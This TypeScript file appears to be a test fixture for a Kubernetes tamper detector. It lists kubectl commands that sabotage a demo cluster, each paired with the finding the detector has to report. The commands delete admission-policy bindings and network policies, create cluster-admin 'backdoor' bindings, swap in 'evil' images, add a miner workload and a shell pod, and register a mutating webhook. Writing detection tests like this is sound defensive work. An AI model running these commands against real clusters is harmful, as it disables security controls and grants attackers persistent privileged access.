/** Something that somebody does to the example's cluster, and what has to be found then. */
export interface Manipulation {
  readonly title: string;
  /** For a POSIX shell. */
  readonly command: string;
  /** `KIND: Kind namespace/name`. */
  readonly finding: string;
  /** The managers that the finding names; none where the API server remembers nobody. */
  readonly by: readonly string[];
}

const patch = (target: string, operation: object) =>
  `kubectl patch ${target} --type=json -p '${JSON.stringify([operation])}'`;
const apply = (object: object) => `kubectl apply -f - <<< '${JSON.stringify(object)}'`;
const add = (path: string, value: unknown) => ({ op: 'add', path, value });

const POD = '/spec/template/spec';
const AGGREGATED = {
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRole',
  metadata: { name: 'more-view', labels: { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' } },
  rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }],
};
const OPEN_POLICY = {
  apiVersion: 'networking.k8s.io/v1',
  kind: 'NetworkPolicy',
  metadata: { name: 'open', namespace: 'shop-web' },
  spec: { podSelector: {}, egress: [{}], policyTypes: ['Egress'] },
};
const WEBHOOK = {
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingWebhookConfiguration',
  metadata: { name: 'injector' },
  webhooks: [
    {
      name: 'injector.example.com',
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
      clientConfig: { url: 'https://example.com/inject' },
      rules: [
        { apiGroups: ['none.example.com'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['none'] },
      ],
    },
  ],
};
const SHELL = { spec: { serviceAccountName: 'frontend', automountServiceAccountToken: false } };

/** Succeed as soon as nothing refuses them any more. */
const PROBES = [
  patch(
    'deployment cartservice -n shop-web --dry-run=server',
    add(`${POD}/containers/0/securityContext`, { privileged: true }),
  ),
  patch('statefulset event-store -n analytics-reports --dry-run=server', add(`${POD}/hostNetwork`, true)),
  `kubectl run probe -n shop-web --dry-run=server --image=registry.example/shell:1 --overrides='${JSON.stringify(SHELL)}'`,
];
/** The guard rails that are in the way of what comes after. */
const IN_THE_WAY = ['pods', 'controllers', 'baseline-controllers', 'restricted-controllers'];

/** Each of another object, so that all of them can be found at once, each by its own finding. */
export const MANIPULATIONS: readonly Manipulation[] = [
  ...IN_THE_WAY.map((name) =>
    row(
      `the binding of ${name} that is deleted`,
      `kubectl delete validatingadmissionpolicybinding bulwark-${name}-deny`,
      `missing: ValidatingAdmissionPolicyBinding bulwark-${name}-deny`,
    ),
  ),
  row(
    'a rule of a guard rail that always holds',
    patch('validatingadmissionpolicy bulwark-services', {
      op: 'replace',
      path: '/spec/validations/0/expression',
      value: 'true',
    }),
    'changed: ValidatingAdmissionPolicy bulwark-services',
    'kubectl-patch',
  ),
  row(
    'a guard rail that fails open',
    patch('validatingadmissionpolicy bulwark-ingresses', add('/spec/failurePolicy', 'Ignore')),
    'changed: ValidatingAdmissionPolicy bulwark-ingresses',
    'kubectl-patch',
  ),
  row(
    'a label that is lowered',
    // After it, once the API server has noticed, nothing is in the way of any of the others.
    `kubectl label ns shop-web pod-security.kubernetes.io/enforce=privileged --overwrite && until ${PROBES.join(' && ')}; do sleep 0.2; done`,
    'changed: Namespace shop-web',
    'kubectl-label',
  ),
  row(
    'a policy that is widened',
    patch('networkpolicy adservice -n shop-web', add('/spec/ingress/-', {})),
    'changed: NetworkPolicy shop-web/adservice',
    'kubectl-patch',
  ),
  row(
    'a policy that selects fewer pods',
    patch('networkpolicy default-deny -n shop-web', add('/spec/podSelector/matchLabels', { a: 'b' })),
    'changed: NetworkPolicy shop-web/default-deny',
    'kubectl-patch',
  ),
  row(
    'a policy that is deleted',
    'kubectl delete networkpolicy default-deny -n analytics-reports',
    'missing: NetworkPolicy analytics-reports/default-deny',
  ),
  row(
    'a policy that is added',
    apply(OPEN_POLICY),
    'undeclared: NetworkPolicy shop-web/open',
    'kubectl-client-side-apply',
  ),
  row(
    'a label that is taken off',
    'kubectl label ns platform-ingress pod-security.kubernetes.io/warn-',
    'changed: Namespace platform-ingress',
  ),
  row(
    'a role that is widened',
    patch(
      'role ingress-leader -n platform-ingress',
      add('/rules/-', { apiGroups: [''], resources: ['secrets'], verbs: ['get'] }),
    ),
    'changed: Role platform-ingress/ingress-leader',
    'kubectl-patch',
  ),
  row(
    'a role of the cluster that is widened',
    patch('clusterrole tenant-viewer', add('/rules/0/verbs/-', 'delete')),
    'changed: ClusterRole tenant-viewer',
    'kubectl-patch',
  ),
  row(
    'a role of Kubernetes itself that is widened',
    patch(
      'clusterrole system:basic-user',
      add('/rules/-', { apiGroups: [''], resources: ['secrets'], verbs: ['get'] }),
    ),
    'changed: ClusterRole system:basic-user',
    'kubectl-patch',
  ),
  row(
    'a role that another collects',
    apply(AGGREGATED),
    'undeclared: ClusterRole more-view',
    'kubectl-client-side-apply',
  ),
  row(
    'a subject that is added to a binding',
    patch(
      'clusterrolebinding platform-ingress-reader',
      add('/subjects/-', { kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'eve' }),
    ),
    'changed: ClusterRoleBinding platform-ingress-reader',
    'kubectl-patch',
  ),
  row(
    'a binding that is added',
    'kubectl create rolebinding backdoor -n shop-web --clusterrole=cluster-admin --user=eve',
    'undeclared: RoleBinding shop-web/backdoor',
    'kubectl-create',
  ),
  row(
    'a binding of the cluster that is added',
    'kubectl create clusterrolebinding backdoor --clusterrole=cluster-admin --user=eve',
    'undeclared: ClusterRoleBinding backdoor',
    'kubectl-create',
  ),
  row(
    'a binding to another role under the old name',
    'kubectl delete rolebinding tenant-viewer -n analytics-reports && kubectl create rolebinding tenant-viewer -n analytics-reports --clusterrole=admin --group=support',
    'changed: RoleBinding analytics-reports/tenant-viewer',
    'kubectl-create',
  ),
  row(
    'an image that is swapped',
    'kubectl set image deployment/frontend -n shop-web server=registry.example/evil:1',
    'changed: Deployment shop-web/frontend',
    'kubectl-set',
  ),
  row(
    'a container that becomes privileged',
    patch(
      'deployment cartservice -n shop-web',
      add(`${POD}/containers/0/securityContext`, { privileged: true }),
    ),
    'changed: Deployment shop-web/cartservice',
    'kubectl-patch',
  ),
  row(
    'a container that is added',
    patch(
      'deployment emailservice -n shop-web',
      add(`${POD}/containers/-`, { name: 'extra', image: 'registry.example/evil:1' }),
    ),
    'changed: Deployment shop-web/emailservice',
    'kubectl-patch',
  ),
  row(
    'the network of the node',
    patch('statefulset event-store -n analytics-reports', add(`${POD}/hostNetwork`, true)),
    'changed: StatefulSet analytics-reports/event-store',
    'kubectl-patch',
  ),
  row(
    'a security context that is gone',
    patch('deployment currencyservice -n shop-web', {
      op: 'remove',
      path: `${POD}/containers/0/securityContext`,
    }),
    'changed: Deployment shop-web/currencyservice',
  ),
  row(
    'a token that is mounted',
    patch('serviceaccount frontend -n shop-web', add('/automountServiceAccountToken', true)),
    'changed: ServiceAccount shop-web/frontend',
    'kubectl-patch',
  ),
  row(
    'an account that is added',
    'kubectl create serviceaccount robot -n shop-web',
    'undeclared: ServiceAccount shop-web/robot',
  ),
  row(
    'a quota that is raised',
    patch('resourcequota quota -n shop-web', add('/spec/hard/pods', '5000')),
    'changed: ResourceQuota shop-web/quota',
    'kubectl-patch',
  ),
  row(
    'limits that are deleted',
    'kubectl delete limitrange limits -n shop-web',
    'missing: LimitRange shop-web/limits',
  ),
  row(
    'what a tenant may that is widened',
    patch('configmap tenant-allowances -n analytics-reports', add('/data/registries', '* evil')),
    'changed: ConfigMap analytics-reports/tenant-allowances',
    'kubectl-patch',
  ),
  row(
    'a Service that is opened',
    patch('service cartservice -n shop-web', add('/spec/type', 'NodePort')),
    'changed: Service shop-web/cartservice',
    'kubectl-patch',
  ),
  row(
    'a Service that is added',
    'kubectl create service loadbalancer door --tcp=80 -n shop-web',
    'undeclared: Service shop-web/door',
    'kubectl-create',
  ),
  row(
    'an annotation that an ingress controller obeys',
    "kubectl annotate ingress frontend-ingress -n shop-web nginx.ingress.kubernetes.io/configuration-snippet='return 200;'",
    'changed: Ingress shop-web/frontend-ingress',
    'kubectl-annotate',
  ),
  row(
    'a Pod of its own',
    `kubectl run shell -n shop-web --image=registry.example/shell:1 --overrides='${JSON.stringify(SHELL)}'`,
    'undeclared: Pod shop-web/shell',
    'kubectl-run',
  ),
  row(
    'a workload that is added',
    'kubectl create deployment miner --image=registry.example/miner:1 -n platform-monitoring',
    'undeclared: Deployment platform-monitoring/miner',
    'kubectl-create',
  ),
  row(
    'a webhook that is added',
    apply(WEBHOOK),
    'undeclared: MutatingWebhookConfiguration injector',
    'kubectl-client-side-apply',
  ),
];

function row(title: string, command: string, finding: string, ...by: readonly string[]): Manipulation {
  return { title, command, finding, by };
}
